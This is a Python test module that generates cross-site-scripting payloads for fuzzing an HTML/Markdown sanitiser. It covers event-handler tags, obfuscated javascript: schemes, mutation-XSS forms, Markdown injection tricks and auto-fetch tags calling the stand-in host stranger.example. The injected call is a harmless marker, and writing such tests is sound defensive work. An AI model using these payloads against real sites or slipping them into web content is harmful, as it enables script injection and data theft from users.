"""Payloads: pieces of text that would run a script or fetch from a stranger, were they not rendered harmless.

A grammar in our own words: tags × events × schemes × encodings, what Markdown makes of addresses, and forms that change their
meaning when they are read a second time. A payload that runs calls `ran(number)`; one that fetches asks the host `STRANGER`.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from random import Random

STRANGER = "stranger.example"
CALM = "\n\n</textarea></title></style></script></noscript></iframe></select></svg></math></table>\n\n"
"""Ends what a payload has opened, so that the next one is read as well."""

TAGS = (
    "a abbr article audio b bdo blockquote body button canvas center details dialog div embed fieldset figure font footer "
    "form frameset h1 h2 header html iframe img input isindex keygen label li link main marquee math menu meter nav "
    "noscript object ol option p picture pre progress q s section select slot small source span summary svg table tbody td "
    "template textarea th title tr u ul video x-y xmp"
).split()
EVENTS = (
    "onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforetoggle onblur oncanplay onchange "
    "onclick onclose oncontextmenu oncopy oncut ondblclick ondrag ondrop onerror onfocus onfocusin onhashchange oninput "
    "oninvalid onkeydown onload onloadstart onmessage onmousedown onmouseenter onmouseover onpageshow onpaste onpointerdown "
    "onpointerover onpointerrawupdate onresize onscroll onscrollend onsearch onselect onselectstart onstart onsubmit "
    "ontoggle ontouchstart ontransitionend onunhandledrejection onwebkitanimationstart onwheel"
).split()
AT_ONCE = (
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<body onpageshow={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<iframe onload={}></iframe>",
    "<object data=x onerror={}></object>",
    "<embed src=x onerror={}>",
    "<link rel=stylesheet href=x onerror={}>",
    "<script src=x onerror={}></script>",
    "<svg><image href=x onerror={}></svg>",
    "<picture><img srcset=x onerror={}></picture>",
    "<style onload={}></style>",
)
"""What happens without anybody touching it."""
REFERRING = (
    '<a href="{}">点</a>',
    '<area href="{}">',
    '<map><area shape=default href="{}"></map>',
    '<iframe src="{}"></iframe>',
    '<frame src="{}">',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<form action="{}"><input type=submit id=go></form>',
    '<form><button formaction="{}">点</button></form>',
    '<input type=image formaction="{}">',
    '<svg><a href="{}"><text y=20>点</text></a></svg>',
    '<svg><a xlink:href="{}"><text y=20>点</text></a></svg>',
    '<svg><use href="{}"></use></svg>',
    '<svg><set attributeName=href to="{}"></svg>',
    '<svg><a><animate attributeName=href values="{}"></animate><text y=20>点</text></a></svg>',
    '<math href="{}">点</math>',
    '<math><maction actiontype="statusline" xlink:href="{}">点</maction></math>',
    '<base href="{}//"><a href=x>点</a>',
    '<a href="x" ping="{}">点</a>',
    '<blockquote cite="{}">点</blockquote>',
    "[点]({})",
    "[点](<{}>)",
    "[点]({} '说明')",
    "<{}>",
    "[点][n]\n\n[n]: {}\n",
    "[点][n]\n\n[n]: <{}> (说明)\n",
    "![图]({})",
    "[![图](x.png)]({})",
)
"""What leads somewhere."""
SCHEMES = (
    "javascript:{}",
    "javascript://%0a{}",
    "javascript:void {}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;charset=utf-8,%3Cscript%3Eparent.{}%3C/script%3E",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "blob:javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\tjavascript:{}",
    " javascript:{}",
    "JaVaScRiPt:{}",
    "javascript&colon;{}",
    "javascript&Tab;:{}",
    "javas&NewLine;cript:{}",
    "&#1;javascript:{}",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:{}",
    "ｊavascript:{}",
    "javascript：{}",
    "%6aavascript:{}",
    "gk:javascript:{}",
    "x:y\njavascript:{}",
)
FETCHING = (
    '<img src="{}">',
    '<img srcset="{} 2x">',
    '<img lowsrc="{}" dynsrc="{}">',
    '<picture><source srcset="{}"><img></picture>',
    '<video poster="{}" src="{}" autoplay></video>',
    '<audio src="{}" autoplay></audio>',
    '<video><track default src="{}"></video>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<link rel=stylesheet href="{}">',
    '<link rel=icon href="{}">',
    '<link rel=prefetch href="{}">',
    '<link rel=modulepreload href="{}">',
    '<link rel=preload as=image href="{}">',
    '<script src="{}"></script>',
    '<script type=module>import "{}"</script>',
    '<style>@import "{}";</style>',
    "<style>body{{background:url({})}}</style>",
    '<p style="background:url({})">甲</p>',
    '<p style="content:image-set({} 1x)">甲</p>',
    '<table background="{}"><tr><td background="{}">甲</table>',
    '<body background="{}">',
    '<input type=image src="{}">',
    '<svg><image href="{}"/></svg>',
    '<svg><image xlink:href="{}"/></svg>',
    '<svg><feImage href="{}"/></svg>',
    '<svg><style>@import "{}";</style></svg>',
    '<svg><use href="{}#a"></svg>',
    '<math><mglyph src="{}"/></math>',
    '<base href="{}/"><img src=x>',
    "![图]({})",
    "![图][n]\n\n[n]: {}\n",
    "![图](<{}>)",
)
"""What fetches without anybody touching it."""
LEAVING = (
    '<meta http-equiv=refresh content="0;url={}">',
    '<link rel=preconnect href="{}">',
    '<link rel=dns-prefetch href="{}">',
)
"""What no policy of content stops, the sanitiser alone."""
ADDRESSES = (
    f"http://{STRANGER}/{{}}",
    f"https://{STRANGER}/{{}}",
    f"//{STRANGER}/{{}}",
    f"\\\\{STRANGER}\\{{}}",
    f"http:/\\{STRANGER}/{{}}",
)
SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script\n>{}</script\n>",
    "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<script type=module>{}</script>",
    "<script>\n\n{}\n\n</script>",
    "<svg><script>{}</script></svg>",
    "<svg><script href='data:text/javascript,{}'></script></svg>",
    "<math><script>{}</script></math>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe srcdoc='&lt;script>parent.{}&lt;/script>'></iframe>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<object type=text/html data='data:text/html,<script>{}</script>'></object>",
    "<style>@keyframes a{{}} p{{animation:a}}</style><p onanimationstart={}>甲</p>",
    "<div style='animation:a' onanimationstart={}>甲</div>",
    "<x-y contenteditable onfocusin={} autofocus tabindex=1>甲</x-y>",
    "<isindex type=image src=x onerror={}>",
    "<marquee onstart={}>甲</marquee>",
)
BREAKING = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "]]>",
    "</p>",
    "</a>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "`>",
    ")>",
    "](x)",
)
"""What ends whatever the text has been put into."""
TWICE = (
    "<noscript><p title='</noscript>{}'></noscript>",
    "<svg></p><style><a id='</style>{}'>",
    "<math></p><style><a id='</style>{}'>",
    "<svg><desc><style><a title='</style>{}'>",
    "<svg><title><style><a title='</style>{}'>",
    "<math><mtext><table><mglyph><style><!--</style>{}",
    "<math><mi><table><mglyph><style><!--</style><img title='-->{}'>",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<math><annotation-xml encoding='text/html'><style>{}</style></annotation-xml></math>",
    "<svg><foreignObject><style>{}</style></foreignObject></svg>",
    "<select><template><style><!--</style><a rel='-->{}'>",
    "<select><style></select>{}</style></select>",
    "<table><style><p title='</style>{}'></table>",
    "<textarea><p title='</textarea>{}'>",
    "<xmp><p title='</xmp>{}'>",
    "<iframe><p title='</iframe>{}'>",
    "<noembed><p title='</noembed>{}'>",
    "<title><p title='</title>{}'>",
    "<template><p title='</template>{}'>",
    "<!--><p title='-->{}'>",
    "<!--<p title='--!>{}'>",
    "<![CDATA[><p title=']]>{}'>",
    "<?x <p title='?>{}'>",
    "<!x <p title='>{}'>",
    "<svg><![CDATA[</svg>{}]]>",
    "<p title='&lt;/p>{}'>",
    "<img alt='`'><img alt='{}'>",
    "<table><td><svg><p>{}</table>",
    "<ruby><rt><math><mtext><rt>{}",
)
"""What reads otherwise the second time."""
MARKDOWN = (
    '```"><script>{}</script>\n甲\n```',
    '``` x" onmouseover="{}\n甲\n```',
    "~~~{{.x onclick={}}}\n甲\n~~~",
    "    <img src=x onerror={}>",
    "`<img src=x onerror={}>`",
    '[甲](x "y\\"onmouseover=\\"{}")',
    "[甲](x 'y' onmouseover={})",
    '[甲](x"onmouseover="{})',
    '![甲" onerror="{}](x.png)',
    "![甲' onerror='{}](x.png)",
    '![甲](x.png"onerror="{})',
    '![甲](x.png "\\" onerror=\\"{}")',
    "[<img src=x onerror={}>](x)",
    "![<img src=x onerror={}>](x.png)",
    "[甲]: x '\"><img src=x onerror={}>'\n\n[甲]",
    "# <img src=x onerror={}>\n",
    "| 甲 |\n| --- |\n| <img src=x onerror={}> |\n",
    '| <img src=x onerror={}> | 乙 |\n|:---:|---" onclick={}|\n| 一 | 二 |\n',
    "1. <img src=x onerror={}>\n",
    "> <img src=x onerror={}>\n",
    "**<b onmouseover={}>甲</b>**",
    "*<img src=x onerror={}>*",
    "<p markdown=1><img src=x onerror={}></p>",
    "\\<img src=x onerror={}>",
    "&lt;img src=x onerror={}&gt;",
    "&amp;lt;img src=x onerror={}&amp;gt;",
    "&#60;img src=x onerror={}&#62;",
    "＜img src=x onerror={}＞",
    "%3Cimg src=x onerror={}%3E",
    "\\u003cimg src=x onerror={}\\u003e",
    "+ADw-img src=x onerror={}+AD4-",
    '<http://x/"onmouseover="{}>',
    '<x@y.example"onmouseover={}>',
    "《<img src=x onerror={}>》（示政发〔2026〕7号）",
    "<img src=x\nonerror={}>",
)


@dataclass(frozen=True, slots=True)
class Payload:
    """A text, and whether a policy of content could stop it."""

    number: int
    text: str
    stoppable: bool = True

    @property
    def line(self) -> str:
        """In one line, for titles and the like."""
        return " ".join(self.text.split())


def payloads(count: int, seed: int) -> Iterator[Payload]:
    """So many, each with its number."""
    random = Random(seed)
    for number in range(count):
        make, stoppable = random.choices(MAKERS, WEIGHTS)[0]
        yield Payload(number, make(f"ran({number})", random), stoppable)


def _handler(call: str, random: Random) -> str:
    """A tag with an event."""
    tag, event = random.choice(TAGS), random.choice(EVENTS)
    space = random.choice((" ", "\n", "/", "\t", " x=y ", " class='gk-align-left' "))
    quote = random.choice(("", '"', "'", "&quot;"))
    before = random.choice(("", "style=animation:a ", "autofocus tabindex=0 ", "src=x ", "open ", "contenteditable "))
    return f"<{_cased(tag, random)}{space}{before}{_cased(event, random)}={quote}{_coded(call, random)}{quote}>甲</{tag}>"


def _at_once(call: str, random: Random) -> str:
    return random.choice(AT_ONCE).format(_coded(call, random))


def _broken_out(call: str, random: Random) -> str:
    return random.choice(BREAKING) + random.choice((_at_once, _script, _handler))(call, random)


def _attribute(call: str, random: Random) -> str:
    """What would become one more attribute of the tag that it is put into."""
    return f"{random.choice(('', '甲'))}{random.choice(QUOTES)} {random.choice(EVENTS)}={call} x={random.choice(QUOTES)}"


def _leading(call: str, random: Random) -> str:
    return random.choice(REFERRING).format(random.choice(SCHEMES).format(_coded(call, random)))


def _script(call: str, random: Random) -> str:
    return random.choice(SCRIPTS).format(call)


def _twice(call: str, random: Random) -> str:
    return random.choice(TWICE).format(random.choice((f"<img src=x onerror={call}>", f"&lt;img src=x onerror={call}&gt;")))


def _markdown(call: str, random: Random) -> str:
    form = random.choice(MARKDOWN)
    return form.format(*[_coded(call, random)] * form.count("{}"))


def _fetching(call: str, random: Random) -> str:
    form, address = random.choice(FETCHING), random.choice(ADDRESSES).format(call.strip("ran()"))
    return form.format(*[address] * form.count("{}"))


def _leaving(call: str, random: Random) -> str:
    return random.choice(LEAVING).format(random.choice(ADDRESSES[:3]).format(call.strip("ran()")))


QUOTES = ('"', "'", "`", "&quot;", "&#39;", "“")
MAKERS: tuple[tuple[Callable[[str, Random], str], bool], ...] = (
    (_handler, True),
    (_at_once, True),
    (_broken_out, True),
    (_attribute, True),
    (_leading, True),
    (_script, True),
    (_twice, True),
    (_markdown, True),
    (_fetching, True),
    (_leaving, False),
)
WEIGHTS = (20, 10, 12, 5, 20, 8, 8, 8, 8, 1)


def _cased(word: str, random: Random) -> str:
    return random.choice((word, word, word.upper(), word.title(), word[:1] + word[1:].upper()))


def _coded(call: str, random: Random) -> str:
    """A call as it is, or written as entities, of which HTML makes the same."""
    way = random.randrange(6)
    if way == 0:
        return "".join(f"&#{ord(sign)};" for sign in call)
    if way == 1:
        return "".join(f"&#x{ord(sign):06X};" for sign in call)
    if way == 2:
        return call.replace("(", "&lpar;").replace(")", "&rpar;")
    if way == 3:
        return call.replace("ran", "top['ran']") if random.random() < 0.3 else call.replace("r", "\\u0072", 1)
    return call
